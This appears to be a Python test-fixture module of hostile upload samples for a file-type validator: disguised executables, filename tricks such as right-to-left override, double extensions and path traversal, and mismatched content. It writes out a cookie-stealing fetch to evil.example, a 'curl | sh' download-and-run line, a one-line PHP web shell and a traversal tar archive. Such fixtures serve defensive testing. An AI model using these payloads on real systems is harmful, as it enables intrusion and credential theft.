"""What its name or its beginning gives away: endings, tricks with names, content of another kind."""

import gzip
import io
import tarfile

from tests.evidence import files
from tests.evidence.corpus.sample import Sample, samples

PROGRAM = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
PAGE = b"<!DOCTYPE html><html><script>fetch('//evil.example/'+document.cookie)</script></html>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>"
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(100)
SEVEN = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100)
CABINET = b"MSCF" + bytes(100)
JAVA = b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(100)
SHORTCUT = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(60)
ZIP = files.zipped({"a.exe": PROGRAM})
GIF = files.image("GIF")


def tar() -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        member = tarfile.TarInfo("../../etc/passwd")
        member.size = 4
        archive.addfile(member, io.BytesIO(b"root"))
    return stream.getvalue()


_ENDINGS = {
    PROGRAM: "exe dll scr com cpl sys msi pif",
    SHELL: "sh bash py pl ps1 bat cmd vbs vbe js jse wsf wsh hta reg inf",
    PAGE: "html htm xhtml shtml mht mhtml xml xsl",
    PHP: "php phtml asp aspx jsp cgi",
    DRAWING: "svg svgz",
    ZIP: "zip jar apk war 7z rar iso img cab",
    SHORTCUT: "lnk url scf desktop",
    files.old_office(): "doc xls ppt msg dot xlt pps",
    files.workbook(): "xlsm xltm xlam xlsb docm dotm pptm ppam potm",
}
ENDINGS = samples(
    "endings",
    [(f"report.{ending}", data) for data, endings in _ENDINGS.items() for ending in endings.split()],
)

TRICKS = samples(
    "names",
    [
        ("report.pdf.exe", PROGRAM),
        ("report.pdf .exe", PROGRAM),
        ("report.exe.pdf", PROGRAM),
        ("report.php.png", PHP),
        ("report.pdf\u202eexe.", files.pdf()),
        ("annex\u202efdp.exe", PROGRAM),
        ("exe.\u2067fdp", PROGRAM),
        ("report.pdf.", PROGRAM),
        ("report.pdf\u200b", PROGRAM),
        ("report.pdf:stream.exe", PROGRAM),
        ("report.pd\u0131", files.pdf()),
        ("report.\uff50\uff44\uff46", files.pdf()),
        ("../../../../srv/portal.php", PHP),
        ("..\\..\\autorun.inf", SHELL),
        ("C:\\Windows\\System32\\calc.exe", PROGRAM),
        (".htaccess", b"AddType application/x-httpd-php .pdf"),
        (".bashrc", SHELL),
        ("CON", PROGRAM),
        ("report", files.pdf()),
        ("pdf", files.pdf()),
        ("report.pdf;.exe", PROGRAM),
        ("report.pdf%00.exe", PROGRAM),
        ('x" onmouseover="alert(1).html', PAGE),
        ("x\r\nContent-Type: text/html\r\n\r\n.html", PAGE),
        ("x" * 300 + ".exe", PROGRAM),
    ],
)

_WRONG = {
    "pdf": (PROGRAM, ELF, PAGE, DRAWING, SHELL, PHP, ZIP, RAR, GIF, files.old_office(), b"\0" * 100),
    "docx": (PROGRAM, ELF, PAGE, SHELL, RAR, SEVEN, files.pdf(), ZIP, JAVA, files.office("pptx")),
    "xlsx": (PROGRAM, PAGE, tar(), GIF, files.pdf(), ZIP, files.office("docx"), files.old_office()),
    "pptx": (PROGRAM, PAGE, CABINET, files.pdf(), ZIP, files.workbook()),
    "png": (PROGRAM, PAGE, DRAWING, PHP, ZIP, GIF, files.image("JPEG"), b"\x89PNG\r\n\x1a\n" + PAGE),
    "jpg": (PROGRAM, PAGE, DRAWING, ZIP, GIF, files.image("PNG"), b"\xff\xd8\xff\xe0" + PHP),
    "jpeg": (ELF, PAGE, files.image("BMP")),
    "csv": (PROGRAM, ELF, PAGE, DRAWING, PHP, ZIP, GIF, gzip.compress(b"a,b"), files.workbook()),
    "txt": (PROGRAM, ELF, PAGE, DRAWING, SHELL, PHP, ZIP, files.pdf(), files.old_office(), SHORTCUT),
}
WRONG = samples(
    "content of another kind",
    [
        (f"wrong {number}.{ending}", data)
        for ending, contents in _WRONG.items()
        for number, data in enumerate(contents)
    ],
)

SAMPLES: list[Sample] = [*ENDINGS, *TRICKS, *WRONG]
